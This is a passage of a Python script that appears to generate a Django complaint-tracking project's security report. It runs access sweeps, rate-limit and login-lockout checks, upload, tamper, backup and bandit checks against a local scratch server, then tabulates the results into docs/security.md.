            "skipped": 0,
            "note": "pytest wrote no report",
        }
    cases = list(ET.parse(xml).getroot().iter("testcase"))  # noqa: S314 (our pytest's file)
    failed = [
        c.get("name") for c in cases if c.find("failure") is not None or c.find("error") is not None
    ]
    skipped_names = [c.get("name") for c in cases if c.find("skipped") is not None]
    skipped = len(skipped_names)
    return {
        "tried": len(cases) - skipped,
        "passed": len(cases) - skipped - len(failed),
        "failed": failed,
        "skipped": skipped,
        "names": [c.get("name") for c in cases],
        "skipped_names": skipped_names,
    }


def schemathesis_run(workdir: Path) -> dict | None:
    path = workdir / "schemathesis.json"
    result = pytest_junit(
        ["tests/api/test_schemathesis.py"],
        workdir,
        "schemathesis",
        {"SCHEMATHESIS_REPORT": str(path)},
    )
    if result is None:
        return None
    result["report"] = json.loads(path.read_text()) if path.exists() else None
    return result


def backup_check(workdir: Path) -> dict | None:
    script = ROOT / ".ci" / "check_backup.sh"
    if not script.exists() or not postgres_available():
        return None
    say(".ci/check_backup.sh (pg_dump / pg_restore round trip)")
    # Its own database names, so a CI run on the same server is never disturbed.
    env = {**test_env(), "PY": PYTHON, "BACKUP_CHECK_PREFIX": "security_report_backup"}
    done = subprocess.run(  # noqa: S603 (the project's own script)
        [str(script)], cwd=ROOT, env=env, capture_output=True, text=True, check=False
    )
    output = done.stdout + done.stderr
    (workdir / "backup.log").write_text(output)
    rows = re.search(r"(\d+) tables, (\d+) rows; (\d+) differences", output)
    return {
        "ok": done.returncode == 0,
        "rows": rows.groups() if rows else None,
        "tail": output.strip().splitlines()[-2:],
    }


def postgres_available() -> bool:
    try:
        with socket.create_connection(("127.0.0.1", 5432), timeout=2):
            return True
    except OSError:
        return False


def bandit_run() -> dict | None:
    if not (BIN / "bandit").exists():
        return None
    say("bandit")
    done = subprocess.run(  # noqa: S603
        [
            str(BIN / "bandit"),
            "-c",
            "pyproject.toml",
            "-r",
            "ethics_tracker",
            "cases",
            "code_of_conduct",
            "-f",
            "json",
            "-q",
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    try:
        data = json.loads(done.stdout)
    except json.JSONDecodeError:
        return {"error": (done.stderr or done.stdout).strip()[:300]}
    severity = Counter(r["issue_severity"] for r in data.get("results", []))
    totals = data.get("metrics", {}).get("_totals", {})
    return {
        "high": severity.get("HIGH", 0),
        "medium": severity.get("MEDIUM", 0),
        "low": severity.get("LOW", 0),
        "nosec": totals.get("nosec", 0),
        "skipped": totals.get("skipped_tests", 0),
        "findings": [
            f"{r['issue_severity']} {r['test_id']} {r['filename']}:{r['line_number']}"
            for r in data.get("results", [])
            if r["issue_severity"] != "LOW"
        ],
    }


# --- 4. the table -----------------------------------------------------------------------------


def git_commit() -> str:
    done = subprocess.run(
        ["git", "rev-parse", "--short", "HEAD"],  # noqa: S607 (git from PATH)
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    dirty = subprocess.run(
        ["git", "status", "--porcelain", "--untracked-files=no"],  # noqa: S607
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    ).stdout.strip()
    return done.stdout.strip() + (" (with uncommitted changes)" if dirty else "")


def table(f: dict) -> str:
    rows = []

    def row(what, figure, note=""):
        rows.append(f"| {what} | {figure} | {note} |")

    s = f.get("sweep")
    if s:
        row(
            "Routes × roles × methods requested",
            f"{s['urls']} URLs × {s['roles']} roles × {s['methods']} methods = {s['tried']}",
            "every named URL of the project, real ids",
        )
        row(
            "Unexpected allows",
            str(len(s["unexpected"])),
            "2xx / redirect to content where the policy says no; "
            f"{s['as_expected']} answers allowed where it says yes",
        )
        row("Server errors (5xx) in the sweep", str(len(s["errors"])), "")
        row(
            "Read-only pages that answer POST/PUT/PATCH/DELETE with their content",
            str(len(s["same_again"])),
            "no method check in the view; nothing is written (not counted as allows)",
        )
    for title, key, unit in (
        ("Wrong receipt codes answered before refusal", "codes", "sent"),
        ("Filings accepted", "filings", "sent"),
    ):
        for label, (answered, refused) in f.get(key, {}).items():
            row(
                f"{title}: {label}",
                f"{answered} of {answered + refused} {unit}",
                f"2 workers; {f['limits'][key]}",
            )
    if "idempotency" in f:
        row(
            "Same Idempotency-Key, another body", f["idempotency"], "must be 422, revealing nothing"
        )
    for label, (answered, stopped, outcome) in f.get("logins", {}).items():
        tried = answered + (0 if stopped == "never" else 1)
        figure = f"{tried} tried, then locked" if stopped != "never" else f"{tried}, never locked"
        row(
            f"Staff logins before lockout: {label}",
            figure,
            f"{answered} answered “wrong password”, then {stopped}; "
            f"then the right password: {outcome}",
        )
    if "token" in f:
        row("API token for chair", f["token"], "staff get a token only with a second factor")
    up = f.get("uploads")
    if up:
        hostile = up["rows"][1:]
        accepted = [r for r in hostile if r["status"] == 201]
        unsafe = [r for r in accepted if "NOT" in r["served"] or "no sandbox" in r["served"]]
        row(
            "Hostile uploads accepted",
            f"{len(accepted)} of {len(hostile)} tried",
            "; ".join(f"{r['label']} (as {r['served'].split(',')[0]})" for r in accepted)
            or "all refused",
        )
        row("… of them served back inline or without sandbox", str(len(unsafe)), "")
        control = up["rows"][0]["status"]
        row(
            "Control upload (a real PNG)",
            "accepted" if control == 201 else f"REFUSED ({control})",
            "proves the upload door works",
        )
    tamper_rows(f.get("tamper"), row)
    for title, key, figure in (
        ("Faults injected (fault tests) / data lost", "faults", "{tried} / {lost}"),
    ):
        r = f.get(key)
        if r is None:
            row(title, NOT_AVAILABLE)
        else:
            note = ("failed: " + ", ".join(r["failed"])) if r["failed"] else ""
            if r.get("skipped"):
                note += f"{'; ' if note else ''}{r['skipped']} skipped here (PostgreSQL only)"
            row(title, figure.format(lost=len(r["failed"]), **r), note)
    if "backup" in f:
        b = f["backup"]
        title = "pg_dump / pg_restore round trip (.ci/check_backup.sh)"
        if b is None:
            row(title, "not run", "needs .ci/check_backup.sh and PostgreSQL on 127.0.0.1:5432")
        elif b["rows"]:
            tables, count, differences = b["rows"]
            verdict = (
                "ledger verifies on the copy" if b["ok"] else "FAILED: " + " / ".join(b["tail"])
            )
            row(
                title,
                f"{differences} rows lost or changed",
                f"{tables} tables, {count} rows; {verdict}",
            )
        else:
            row(title, "FAILED" if not b["ok"] else "ok", " / ".join(b["tail"]).replace("|", "/"))
    st = f.get("schemathesis")
    if st is None:
        row("Schemathesis", NOT_AVAILABLE)
    else:
        report = st.get("report")
        if isinstance(report, dict):
            figure, note = schemathesis_summary(report)
            row("Schemathesis cases (anonymous, member, chair)", figure, note)
        else:
            row(
                "Schemathesis", f"tests {st['passed']} of {st['tried']} passed", "no report written"
            )
    b = f.get("bandit")
    if b is None:
        row("bandit findings", NOT_AVAILABLE)
    elif "error" in b:
        row("bandit findings", "bandit failed", b["error"])
    else:
        row(
            "bandit findings (high / medium / low)",
            f"{b['high']} / {b['medium']} / {b['low']}",
            f"{b['nosec']} lines marked `# nosec`",
        )
    for key, error in f.get("failed", {}).items():
        row(f"{key}: not measured", "the measurement failed", error.replace("|", "/"))
    return "\n".join(["| What | Figure | Note |", "| --- | --- | --- |", *rows])


TAMPER_TEST = "test_each_tampering_is_detected_and_named["


def tamper_rows(r: dict | None, row) -> None:
    """The cases of TAMPERING_CASES (one parametrised test each), then the other tests."""
    title = "Tampering cases tried / detected"
    if r is None:
        row(title, NOT_AVAILABLE)
        return

    def case(name):  # "…[event added-event_added-unsigned_event]" → "event added"
        return name[len(TAMPER_TEST) :].split("-")[0]

    cases = [n for n in r["names"] if n.startswith(TAMPER_TEST)]
    skipped = [case(n) for n in cases if n in r["skipped_names"]]
    failed = [case(n) for n in cases if n in r["failed"]]
    tried = len(cases) - len(skipped)
    note = f"of {len(cases)} in tests/audit/tampering.py"
    if skipped:
        note += "; on PostgreSQL only: " + ", ".join(skipped)
    if failed:
        note += "; NOT DETECTED: " + ", ".join(failed)
    row(title, f"{tried} / {tried - len(failed)}", note)
    others = [n for n in r["names"] if not n.startswith(TAMPER_TEST)]
    other_failed = [n for n in others if n in r["failed"]]
    other_skipped = [n for n in others if n in r["skipped_names"]]
    ran = len(others) - len(other_skipped)
    row(
        "Other ledger-proof tests (signatures, triggers, transparency log) passed",
        f"{ran - len(other_failed)} of {ran}",
        (f"{len(other_skipped)} on PostgreSQL only" if other_skipped else "")
        + ("; failed: " + ", ".join(other_failed) if other_failed else ""),
    )


def schemathesis_summary(report: dict) -> tuple[str, str]:
    """(figure, note) from the JSON tests/api/test_schemathesis.py writes."""
    checks = report.get("checks", {})
    failures = {name: c.get("failures", 0) for name, c in checks.items()}
    checked = max((c.get("checked", 0) for c in checks.values()), default=0)
    figure = f"{report.get('cases', checked)} cases over {report.get('operations', '?')} operations"
    roles = ", ".join(f"{k} {v}" for k, v in report.get("cases_by_role", {}).items())
    by_check = "; ".join(f"{name} {n}" for name, n in failures.items())
    failing = sorted({f"{x['operation']} ({x['check']})" for x in report.get("failing", [])})
    note = f"by role: {roles}. Failures by check: {by_check}"
    if failing:
        note += ". Failing: " + "; ".join(failing)
    return figure, note


def write_doc(text: str, command: str) -> None:
    stamp = datetime.datetime.now(datetime.UTC).strftime("%Y-%m-%d %H:%M UTC")
    block = (
        f"{START}\nMeasured {stamp} at commit {git_commit()} by `{command}` "
        f"({DATABASE_LABEL}, gunicorn with 2 sync workers).\n\n{text}\n{END}"
    )
    current = DOC.read_text() if DOC.exists() else "# Security\n"
    if START in current and END in current:
        head, rest = current.split(START, 1)
        current = head + block + rest.split(END, 1)[1]
    else:
        current = current.rstrip() + "\n\n## Figures\n\n" + block + "\n"
    DOC.write_text(current)


# --- main ------------------------------------------------------------------------------------

ORIGINAL_DATABASE_URL = os.environ.get("DATABASE_URL", "")
DATABASE_LABEL = "PostgreSQL" if ORIGINAL_DATABASE_URL.startswith("postgres") else "SQLite"


def part(f: dict, key: str, measure) -> None:
    """Run one measurement; a crash is reported as the figure, never invented around."""
    if ONLY and key not in ONLY:
        return
    try:
        f[key] = measure()
    except Exception as error:  # noqa: BLE001 (the report goes on and says what broke)
        say(f"  {key} FAILED: {error!r}")
        f.setdefault("failed", {})[key] = repr(error)[:300]


def measure_http(workdir: Path, env: dict, f: dict) -> None:
    from django.conf import settings

    from cases.models import Case

    rates = settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"]
    f["limits"] = {
        "codes": f"limits {rates['receipt_lookup']} per client"
        + (
            f", {rates['receipt_per_reference']} per reference"
            if "receipt_per_reference" in rates
            else ""
        ),
        "filings": f"limit {rates['complaint_filing']} per client",
    }
    reference = Case.objects.order_by("pk").first().reference
    tries = 3 * int(rates["receipt_lookup"].split("/")[0])

    def codes(base, spoofs, doors=("API", "follow-up page", "API, a new reference each time")):
        found = {}
        for door in doors:
            for label, spoof in spoofs.items():
                say(f"wrong receipt codes via the {door}, {label}")
                found[f"{door}, {label}"] = wrong_codes(base, reference, door, spoof, tries)
        return found

    def filed(base, spoofs):
        found = {}
        for label, spoof in spoofs.items():
            say(f"filings through the API, {label}")
            found[f"API, {label}"] = filings(base, spoof, 25)
        return found

    def logins(base):
        say("staff logins: wrong passwords for chair at /accounts/login/, then the right one")
        chair = login_lockout(base, "chair", "/accounts/login/", 30, "/complaints/committee/")
        say("staff logins: wrong passwords for admin at /admin/login/, then the right one")
        admin = login_lockout(base, "admin", "/admin/login/", 30, "/admin/")
        found = {"chair at /accounts/login/": chair, "admin at /admin/login/": admin}
        if Browser(base).post("/api/v1/auth/token/", json_body={}).status != 404:
            say("staff logins: wrong passwords for chair at POST /api/v1/auth/token/")
            found["chair at POST /api/v1/auth/token/"] = token_lockout(base, "chair", 30)
        return found

    with Server(env, workdir / "gunicorn.log") as base:
        say(f"gunicorn (2 workers) answers at {base}")
        part(f, "sweep", lambda: sweep(base))
        part(f, "codes", lambda: codes(base, SPOOFS))
        part(f, "filings", lambda: filed(base, SPOOFS))
        part(f, "idempotency", lambda: idempotency_reuse(base))
        part(f, "logins", lambda: logins(base))
        if installed("ethics_tracker.accounts"):
            part(f, "token", lambda: token_second_factor(base, "chair"))
        say("hostile uploads")
        part(f, "uploads", lambda: uploads(base, settings.CASES_EVIDENCE_MAX_BYTES))
    if ONLY and "proxy" not in ONLY:
        return
    with Server({**env, "TRUSTED_PROXY_COUNT": "1"}, workdir / "gunicorn-proxy.log") as base:
        say("behind one trusted proxy (TRUSTED_PROXY_COUNT=1), which appends 127.0.0.1")
        spoof = {
            "client's made-up X-Forwarded-For": SPOOFS["X-Forwarded-For: <made-up>, 127.0.0.1"]
        }
        part(f, "proxy_codes", lambda: codes(base, spoof, doors=("API behind 1 proxy",)))
        part(f, "proxy_filings", lambda: filed(base, spoof))
    f.setdefault("codes", {}).update(f.pop("proxy_codes", {}))
    for label, value in f.pop("proxy_filings", {}).items():
        f.setdefault("filings", {})[label.replace("API,", "API behind 1 proxy,")] = value


def main() -> int:
    command = "make security-report"
    if DATABASE_LABEL == "PostgreSQL":  # the server, never its password
        server = urllib.parse.urlsplit(ORIGINAL_DATABASE_URL)
        command = f"DATABASE_URL=postgres://{server.hostname}:{server.port or 5432}/… {command}"
    workdir = Path(tempfile.mkdtemp(prefix="security-report-"))
    say(f"scratch directory {workdir} ({DATABASE_LABEL})")
    database_url, drop = scratch_database(workdir)
    env = server_env(workdir, database_url)
    f: dict = {}
    try:
        # seed_demo, then a checkpoint so that the checkpoint pages name a real one
        for args in (["migrate", "--noinput", "-v0"], ["seed_demo"], ["ledger_checkpoint"]):
            say("manage.py " + " ".join(args))
            subprocess.run(  # noqa: S603 (our own manage.py)
                [PYTHON, "manage.py", *args],
                cwd=ROOT,
                env=env,
                check=True,
                stdout=subprocess.DEVNULL,
            )
        django_setup(env)
        measure_http(workdir, env, f)
        from django.db import connections

        connections.close_all()
    finally:
        drop()
    part(f, "tamper", lambda: pytest_junit(["tests/audit/test_tamper.py"], workdir, "tamper"))
    fault_tests = ["tests/core/test_faults.py", "tests/core/test_outbox_smtp.py"]
    part(f, "faults", lambda: pytest_junit(fault_tests, workdir, "faults"))
    part(f, "backup", lambda: backup_check(workdir))
    part(f, "schemathesis", lambda: schemathesis_run(workdir))
    part(f, "bandit", bandit_run)
    (workdir / "figures.json").write_text(json.dumps(f, indent=2, default=str))
    text = table(f)
    if not ONLY:
        write_doc(text, command)
    print("\n" + text + "\n")
    details(f)
    say(
        f"raw figures in {workdir / 'figures.json'}"
        + ("" if ONLY else "; docs/security.md updated")
    )
    return 0


def details(f: dict) -> None:
    s = f.get("sweep", {})
    print("Unexpected allows:" if s.get("unexpected") else "Unexpected allows: none")
    for line in s.get("unexpected", []):
        print("  " + line)
    if s.get("errors"):
        print("Server errors:")
        for line in s["errors"]:
            print("  " + line)
    if s.get("missing"):
        print(
            f"Allowed by the policy but refused ({len(s['missing'])}; "
            "the expectation table may be too generous):"
        )
        for line in s["missing"][:40]:
            print("  " + line)
    if s.get("same_again"):
        print("Read-only pages answering writes with their content: " + ", ".join(s["same_again"]))
    if s.get("unknown"):
        print("Routes with no expectation (not counted): " + ", ".join(s["unknown"]))
    for r in f.get("uploads", {}).get("rows", []):
        print(f"  upload {r['label']}: {r['status']} {r['served']}")
    b = f.get("bandit") or {}
    for line in b.get("findings", []):
        print("  bandit " + line)


# ``--only sweep,codes`` measures some parts and prints them, leaving docs/security.md alone.
ONLY = set(sys.argv[sys.argv.index("--only") + 1].split(",")) if "--only" in sys.argv else set()

if __name__ == "__main__":
    sys.exit(main())
